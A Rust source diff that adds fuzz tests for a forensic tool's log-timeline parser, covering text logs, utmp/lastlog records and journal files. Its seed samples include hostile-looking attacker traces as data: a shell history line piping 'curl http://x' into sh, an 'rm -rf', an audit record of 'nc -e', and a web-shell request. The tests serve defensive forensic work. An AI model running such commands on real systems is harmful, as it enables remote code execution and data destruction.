@@ -568,3 +568,218 @@ mod mangled {
         }
     }
 }
+
+/// Fuzz targets (see `crate::fuzzing`): every log format of a suspect root, parsed as `rescue
+/// timeline` parses it: the text formats, utmp/lastlog records and journal files.
+#[cfg(test)]
+mod fuzz {
+    use super::testutil::Collect;
+    use super::*;
+    use crate::fuzzing::Target;
+    use std::os::unix::fs::FileExt;
+
+    /// Where the objects of the journal seeds start (systemd-journal-remote wrote them after ~3.6 MB
+    /// of hash tables; the seeds keep the header and the objects, the file is sparse in between).
+    const JOURNAL_OBJECTS: u64 = 3_733_880;
+    const JOURNAL_HEADER: usize = 264;
+
+    const TEXT_KINDS: [(LogKind, &str); 11] = [
+        (LogKind::Auth, "/var/log/auth.log"),
+        (LogKind::Syslog, "/var/log/syslog"),
+        (LogKind::Yum, "/var/log/yum.log"),
+        (LogKind::WebAccess, "/var/log/nginx/access.log"),
+        (LogKind::WebError, "/var/log/apache2/error.log"),
+        (LogKind::Dpkg, "/var/log/dpkg.log"),
+        (LogKind::AptHistory, "/var/log/apt/history.log"),
+        (LogKind::Dnf, "/var/log/dnf.log"),
+        (LogKind::Audit, "/var/log/audit/audit.log"),
+        (LogKind::ShellHistory, "/root/.bash_history"),
+        (LogKind::WebError, "/var/log/nginx/error.log"),
+    ];
+
+    /// Parses `write`'s file as `kind`; every line is an event or kept as unparsed, never dropped.
+    fn parse_as(kind: LogKind, shown: &str, write: impl FnOnce(&Path)) {
+        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("temporary directory: {e}"));
+        let real = dir.path().join("log");
+        write(&real);
+        let file = LogFile {
+            kind,
+            shown: shown.to_owned(),
+            real,
+            rotation: rotation(shown.rsplit('/').next().unwrap_or("")).1,
+            mtime: 1_735_689_600,
+        };
+        let zone = Zone::utc("t");
+        let mut sink = Collect::default();
+        let mut ctx = Context {
+            file: &file,
+            host: "examined",
+            zone: &zone,
+            sink: &mut sink,
+            stats: FileStats::default(),
+        };
+        let _ = parse(&mut ctx);
+        let stats = ctx.stats;
+        assert_eq!(
+            stats.events + stats.unparsed,
+            sink.events.len() as u64 + sink.unparsed.len() as u64
+        );
+    }
+
+    fn text_logs(b: &[u8]) {
+        let (k, content) = b.split_first().unwrap_or((&0, b));
+        let (kind, shown) = TEXT_KINDS[usize::from(*k) % TEXT_KINDS.len()];
+        parse_as(kind, shown, |p| {
+            let _ = std::fs::write(p, content);
+        });
+    }
+
+    fn login_records(b: &[u8]) {
+        let (k, content) = b.split_first().unwrap_or((&0, b));
+        let (kind, shown) = match k % 3 {
+            0 => (LogKind::Wtmp, "/var/log/wtmp"),
+            1 => (LogKind::Btmp, "/var/log/btmp"),
+            _ => (LogKind::Lastlog, "/var/log/lastlog"),
+        };
+        parse_as(kind, shown, |p| {
+            let _ = std::fs::write(p, content);
+        });
+    }
+
+    fn journals(b: &[u8]) {
+        let (head, objects) = b.split_at(b.len().min(JOURNAL_HEADER));
+        parse_as(LogKind::Journal, "/var/log/journal/x/system.journal", |p| {
+            if let Ok(f) = File::create(p) {
+                let _ = f.write_all_at(head, 0);
+                let _ = f.set_len(JOURNAL_OBJECTS);
+                let _ = f.write_all_at(objects, JOURNAL_OBJECTS);
+            }
+        });
+    }
+
+    fn utmp_record(kind: i16, pid: i32, line: &str, user: &str, host: &str, sec: i32) -> Vec<u8> {
+        let mut r = vec![0u8; utmp::UTMP_SIZE];
+        r[0..2].copy_from_slice(&kind.to_le_bytes());
+        r[4..8].copy_from_slice(&pid.to_le_bytes());
+        r[8..8 + line.len()].copy_from_slice(line.as_bytes());
+        r[44..44 + user.len()].copy_from_slice(user.as_bytes());
+        r[76..76 + host.len()].copy_from_slice(host.as_bytes());
+        r[340..344].copy_from_slice(&sec.to_le_bytes());
+        r
+    }
+
+    #[test]
+    fn text_log_lines() {
+        let samples: [(u8, &str); 11] = [
+            (
+                0,
+                "Jan  2 03:04:05.123 web1 sshd[812]: Accepted password for root from 10.0.0.9 port 22 ssh2\nJan  2 03:04:06 web1 sudo:     root : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh\n",
+            ),
+            (
+                1,
+                "2024-03-01T10:00:00.250000+01:00 web1 CRON[5]: (root) CMD (x)\n<13>Mar  1 10:00:00 web1 kernel: x\n",
+            ),
+            (2, "Jan 02 03:04:05 Installed: nmap-7.0.x86_64\n"),
+            (
+                3,
+                "203.0.113.7 - - [10/Oct/2023:13:55:36 -0700] \"GET /shell.php?cmd=id HTTP/1.1\" 200 2326 \"-\" \"curl/8.0\"\n",
+            ),
+            (
+                4,
+                "[Wed Oct 11 14:32:52.123456 2023] [core:error] [pid 35708] AH00037: x\n",
+            ),
+            (
+                5,
+                "2024-01-02 03:04:05 install nmap:amd64 <none> 7.93\n2024-01-02 03:04:06 status installed nmap:amd64 7.93\n",
+            ),
+            (
+                6,
+                "Start-Date: 2024-01-02  03:04:05\nCommandline: apt install nmap\nInstall: nmap:amd64 (7.93)\nEnd-Date: 2024-01-02  03:04:09\n\n",
+            ),
+            (7, "2024-01-02T03:04:05+0100 INFO Installed: nmap\n"),
+            (
+                8,
+                "type=ADD_USER msg=audit(1700000000.123:456): pid=1 uid=0 acct=\"eve\"\ntype=EXECVE msg=audit(1700000001.000:457): argc=2 a0=\"nc\" a1=\"-e\"\n",
+            ),
+            (
+                9,
+                "#1700000000\ncurl http://x | sh\n#1700000100\nrm -rf /tmp/x\n",
+            ),
+            (10, "2023/10/10 13:55:36 [error] 12#12: *1 open() failed\n"),
+        ];
+        let mut t = Target::new("timeline-text");
+        for (k, s) in samples {
+            let mut b = vec![k];
+            b.extend_from_slice(s.as_bytes());
+            t = t.seed(b);
+        }
+        t.dict(&[
+            b"\n",
+            b" ",
+            b"[",
+            b"]",
+            b":",
+            b"\"",
+            b"=",
+            b"T",
+            b"+01:00",
+            b"\xff\xfe",
+        ])
+        .run(text_logs);
+    }
+
+    #[test]
+    fn login_records_utmp() {
+        let mut wtmp = vec![0u8];
+        wtmp.extend(utmp_record(2, 0, "~", "reboot", "6.1.0", 1_700_000_000));
+        wtmp.extend(utmp_record(
+            7,
+            42,
+            "pts/0",
+            "root",
+            "203.0.113.9",
+            1_700_000_100,
+        ));
+        wtmp.extend(utmp_record(8, 42, "pts/0", "", "", 1_700_000_200));
+        let mut lastlog = vec![2u8];
+        lastlog.extend(vec![0u8; utmp::LASTLOG_SIZE]);
+        let mut entry = vec![0u8; utmp::LASTLOG_SIZE];
+        entry[..4].copy_from_slice(&1_700_000_000i32.to_le_bytes());
+        entry[4..9].copy_from_slice(b"pts/1");
+        entry[36..47].copy_from_slice(b"203.0.113.9");
+        lastlog.extend(entry);
+        Target::new("timeline-utmp")
+            .seed(wtmp)
+            .seed(lastlog)
+            .run(login_records);
+    }
+
+    #[test]
+    fn journal_files() {
+        let seed = |z: &[u8]| zstd::decode_all(z).unwrap_or_else(|e| panic!("fuzz seed: {e}"));
+        Target::new("timeline-journal")
+            .seed(seed(include_bytes!(
+                "../../fuzz-seeds/journal-compact.seed.zst"
+            )))
+            .seed(seed(include_bytes!(
+                "../../fuzz-seeds/journal-regular.seed.zst"
+            )))
+            .run(journals);
+    }
+
+    /// Found by `timeline-text`: an Apache error-log time with a 12-digit year overflowed the
+    /// seconds since the epoch; the line is now kept as unparsed.
+    #[test]
+    fn regression_a_huge_year_is_not_a_time() {
+        let input = include_bytes!("../../fuzz-seeds/regressions/timeline-text-year-overflow.bin");
+        assert_eq!(crate::fuzzing::replay(text_logs, input), Ok(()));
+    }
+
+    /// Found by `timeline-text`: an audit record stamped 10^13 seconds overflowed the microseconds.
+    #[test]
+    fn regression_an_audit_stamp_past_the_range_is_unparsed() {
+        let input =
+            include_bytes!("../../fuzz-seeds/regressions/timeline-text-audit-seconds-overflow.bin");
+        assert_eq!(crate::fuzzing::replay(text_logs, input), Ok(()));
+    }
+}
